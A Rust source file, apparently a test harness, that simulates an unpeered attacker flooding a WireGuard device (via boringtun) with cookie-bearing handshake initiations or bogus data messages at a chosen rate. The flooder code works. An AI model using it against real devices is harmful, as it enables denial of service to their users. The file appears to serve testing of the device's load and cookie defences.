//! Somebody on the underlay who is nobody's peer, and floods a device.

use std::io;
use std::net::UdpSocket;
use std::thread::sleep;
use std::time::{Duration, Instant};

use boringtun::noise::{Tunn, TunnResult};
use boringtun::x25519::{PublicKey, StaticSecret};

/// How often a part of a flood is sent.
const PART: Duration = Duration::from_millis(10);
/// As many initiations put any device under load.
const LOAD: usize = 2000;
/// The longest handshake message, and room to spare, bytes.
const MESSAGE: usize = 200;

/// What is sent.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Flood {
    /// Initiations with the cookie that the device has given: each asks for a computation.
    Handshakes,
    /// Data messages of sessions that nobody has.
    Garbage,
}

/// The attacker.
pub struct Stranger {
    socket: UdpSocket,
    noise: Tunn,
}

impl Stranger {
    /// With a socket that is connected to a device of this public key.
    ///
    /// # Errors
    /// Those of the socket.
    pub fn new(socket: UdpSocket, key: [u8; 32]) -> io::Result<Self> {
        socket.set_read_timeout(Some(Duration::from_secs(1)))?;
        let noise = Tunn::new([9; 32].into(), key.into(), None, None, 1, None);
        Ok(Self { socket, noise })
    }

    /// Sends so many datagrams a second for a while, and says how many those were.
    ///
    /// # Errors
    /// Those of the socket, or that the device gives no cookie.
    pub fn flood(&mut self, what: Flood, per_second: u64, time: Duration) -> io::Result<u64> {
        let mut datagram = match what {
            Flood::Handshakes => self.initiation_with_cookie()?,
            Flood::Garbage => [&[4, 0, 0, 0][..], &[0x5a; 144]].concat(),
        };
        let part = (per_second / 100).max(1);
        let (start, mut sent) = (Instant::now(), 0u64);
        while start.elapsed() < time {
            for _ in 0..part {
                if what == Flood::Garbage {
                    let number = sent.wrapping_mul(0x9e37_79b9_7f4a_7c15);
                    datagram[4..12].copy_from_slice(&number.to_le_bytes());
                }
                // What the machine does not carry is lost on the attacker's side.
                let _ = self.socket.send(&datagram);
                sent += 1;
            }
            let parts = u32::try_from(sent / part).unwrap_or(u32::MAX);
            sleep((PART * parts).saturating_sub(start.elapsed()));
        }
        Ok(sent)
    }

    fn initiation_with_cookie(&mut self) -> io::Result<Vec<u8>> {
        let first = self.initiation()?;
        for _ in 0..LOAD {
            self.socket.send(&first)?;
        }
        let mut cookie = [0; MESSAGE];
        let len = self.socket.recv(&mut cookie)?;
        self.noise.decapsulate(None, &cookie[..len], &mut [0; MESSAGE]);
        let second = self.initiation()?;
        if second.ends_with(&[0; 16]) {
            return Err(io::Error::other("what the device has sent is no cookie for us"));
        }
        Ok(second)
    }

    fn initiation(&mut self) -> io::Result<Vec<u8>> {
        let mut message = [0; MESSAGE];
        match self.noise.format_handshake_initiation(&mut message, true) {
            TunnResult::WriteToNetwork(message) => Ok(message.to_vec()),
            other => Err(io::Error::other(format!("no initiation: {other:?}"))),
        }
    }
}

/// The public key of a private one.
pub(crate) fn public_key(private: [u8; 32]) -> [u8; 32] {
    *PublicKey::from(&StaticSecret::from(private)).as_bytes()
}
